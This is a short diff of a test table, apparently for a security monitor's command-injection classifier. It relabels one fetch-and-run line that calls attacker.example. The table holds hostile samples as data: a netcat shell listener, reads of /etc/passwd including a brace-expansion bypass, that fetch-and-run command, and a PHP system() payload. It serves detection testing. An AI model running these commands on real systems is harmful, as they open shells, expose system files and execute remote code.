@@ -21,7 +21,7 @@ from secmon.attacks import command
     ("nc -lvvp 4444 -e /bin/sh", "cmdi.shell_trick"),
     ("{cat,/etc/passwd}", "cmdi.shell_trick"),
     ("cat /etc/passwd", "cmdi.command_line"),
-    ("curl -s https://attacker.example/x | sh", "cmdi.command_line"),
+    ("curl -s https://attacker.example/x | sh", "cmdi.chained_command"),
     ("whoami", "cmdi.command_line"),
     ("<?php system('id'); ?>", "cmdi.code_exec"),
 ])
